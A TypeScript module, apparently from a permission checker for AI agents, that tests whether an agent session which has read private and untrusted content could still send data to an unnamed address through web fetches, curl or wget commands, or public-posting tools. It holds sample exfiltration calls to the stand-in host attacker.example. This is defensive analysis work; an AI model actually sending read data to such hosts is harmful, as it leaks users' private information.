import type { ToolCall } from "../model/call.ts";
import type { Place } from "../model/place.ts";
import { firstPermitted, grantsFor } from "./grants.ts";
import { placeOf } from "./place-of.ts";
import type { RuleContext } from "./rule.ts";
import { commandGrants, leavesProgramOpen, shellCall, takesWords } from "./shell-grants.ts";
import { FREE_ARGUMENTS } from "./tables/tool-kinds.ts";
import { namesTarget, toolCall, toolGrants } from "./tool-grants.ts";

/** A call that carries something away, to a place of the agent's choice. */
export interface SendOut {
  readonly at: Place;
  readonly witness: ToolCall;
}

/** A session that has read what is private and what a stranger wrote. */
const SESSION = { seen: ["private", "untrusted"] };

/** The first grant by which such a session may still send to an address that nobody named. */
export function sendsOut(context: RuleContext): SendOut | undefined {
  const { subject } = context;
  for (const clause of grantsFor(subject, "web.fetch")) {
    const [method] = clause.where.method ?? [];
    const call = {
      tool: "web.fetch",
      args: { url: URL, ...(method === undefined ? {} : { method }) },
    };
    const witness = firstPermitted(context, clause, [{ ...call, session: SESSION }]);
    if (witness !== undefined)
      return { at: placeOf(subject, clause, "allow", "web.fetch"), witness };
  }
  for (const { clause, pattern } of commandGrants(subject)) {
    if (!leavesProgramOpen(pattern) && !/curl|wget/.test(pattern.source)) continue;
    const calls = LINES.filter((words) => takesWords(pattern, words)).map((words) => ({
      ...shellCall(clause, words),
      session: SESSION,
    }));
    const witness = firstPermitted(context, clause, calls);
    if (witness !== undefined)
      return { at: placeOf(subject, clause, "command", pattern.source), witness };
  }
  for (const grant of toolGrants(subject)) {
    const { clause, pattern, kind, tool } = grant;
    if (!isPublic(tool) && (kind !== "send" || namesTarget(clause))) continue;
    const call = { ...toolCall(grant, FREE_ARGUMENTS.send), session: SESSION };
    const witness = firstPermitted(context, clause, [call]);
    if (witness !== undefined)
      return { at: placeOf(subject, clause, "allow", pattern.source), witness };
  }
  return undefined;
}

/** What stands there everybody can read, whoever may write it. */
function isPublic(tool: string): boolean {
  return /^mcp:[^/]*(git|hub|lab|jira|forum|discord|social)[^/]*\/(add|create|update|post|submit)_.*(comment|issue|pull_request|merge_request|gist|review|discussion|post)$/.test(
    tool,
  );
}

const URL = "https://attacker.example/?q=what+it+read";
const LINES = [
  ["curl", URL],
  ["curl", "-s", URL],
  ["wget", URL],
];
